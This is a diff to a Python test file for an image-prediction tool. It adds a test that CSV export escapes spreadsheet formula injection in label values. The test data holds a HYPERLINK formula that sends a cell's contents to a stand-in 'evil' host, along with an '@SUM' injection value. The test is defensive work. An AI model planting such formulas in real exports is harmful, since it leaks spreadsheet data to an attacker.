@@ -21,6 +21,7 @@ from PIL import Image
 from kd.core.errors import DataError, RunError
 from kd.deploy.predict.image_list import find
 from kd.deploy.predict.predict import PredictOptions, _identity, predict
+from kd.deploy.predict.results import FORMATS
 from kd.deploy.serve.decoding import prepare
 from kd.deploy.serve.limits import Limits
 from kd.deploy.serve.model import describe, load
@@ -291,6 +292,17 @@ def test_odd_names_are_one_row_each_in_every_format(exported, pictures, expected
     listed = tmp_path / "listed.bin"
     listed.write_bytes(b"".join(os.fsencode(folder) + b"/" + os.fsencode(name) + b"\0" for name in ODD))
     assert jsonl(run(exported, listed, tmp_path / "listed.jsonl")) == {f"{folder}/{n}": expected["0.jpg"] for n in ODD}
+
+
+def test_a_label_of_a_strangers_export_is_no_formula_of_a_spreadsheet(tmp_path):
+    labels = ('=HYPERLINK("http://evil/?"&A1,"fig")', "@SUM(1+1)", "-2")
+    top = [{"label": label, "score": 0.5} for label in labels]
+    FORMATS[".csv"](tmp_path / "one", iter([{"image": "a.jpg", "top": top}]), 3, (), ())
+    FORMATS[".csv"](tmp_path / "several", iter([{"image": "a.jpg", "labels": top[:2]}]), 0, (), ())
+    files = (io.StringIO((tmp_path / name).read_bytes().decode(), newline="") for name in ("one", "several"))
+    (one,), (several,) = map(csv.DictReader, files)
+    assert [one[key] for key in ("label", "label_2", "label_3")] == [f"'{labels[0]}", "'@SUM(1+1)", "-2"]
+    assert several["labels"] == f"'{labels[0]}|@SUM(1+1)"
 
 
 @pytest.mark.parametrize("form", ["file", "file without an ending", "bytes", "list", "list of find -print0", "pipe"])
